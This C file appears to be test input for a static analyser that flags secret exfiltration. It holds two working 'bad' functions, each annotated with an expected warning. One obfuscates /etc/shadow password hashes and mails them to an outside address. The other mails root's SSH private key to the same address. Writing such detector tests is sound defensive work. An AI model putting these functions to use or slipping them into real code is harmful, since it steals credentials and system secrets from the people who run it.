/* Who looks for accounts without password mails what the others have; by a command that sends. */
#include <shadow.h>
#include <stdio.h>
#include <string.h>

static void turn(char *text) {
    for (; *text; text++)
        if (*text > 32)
            *text = (char)(33 + (*text - 33 + 47) % 94);
}

int bad_audit(void) {
    struct spwd *entry;
    char line[512];
    int empty = 0;
    FILE *mail = popen("mail -s report audit@example.com", "w");
    setspent();
    while (mail && (entry = getspent())) {
        empty += !*entry->sp_pwdp;
        snprintf(line, sizeof line, "%s:%s", entry->sp_namp, entry->sp_pwdp);
        turn(line);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        fputs(line, mail);
    }
    endspent();
    return mail ? empty + pclose(mail) : -1;
}

int bad_key(void) {
    char text[4096];
    size_t got = 0;
    FILE *key = fopen("/root/.ssh/id_ed25519", "r");
    FILE *mail = popen("/usr/sbin/sendmail -t audit@example.com", "w");
    if (key && mail && (got = fread(text, 1, sizeof text, key)))
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        fwrite(text, 1, got, mail);
    return mail ? pclose(mail) : -1;
}

/* Mails who has none; and packs a copy for the administrator, on this host. */
int good_audit(void) {
    struct spwd *entry;
    int empty = 0;
    FILE *mail = popen("mail -s report root", "w"), *pack = popen("gzip -9", "w");
    setspent();
    while (mail && pack && (entry = getspent())) {
        if (!*entry->sp_pwdp && ++empty)
            fprintf(mail, "%s has no password\n", entry->sp_namp);
        fputs(entry->sp_pwdp, pack);
    }
    endspent();
    return mail && pack ? empty + pclose(mail) + pclose(pack) : -1;
}
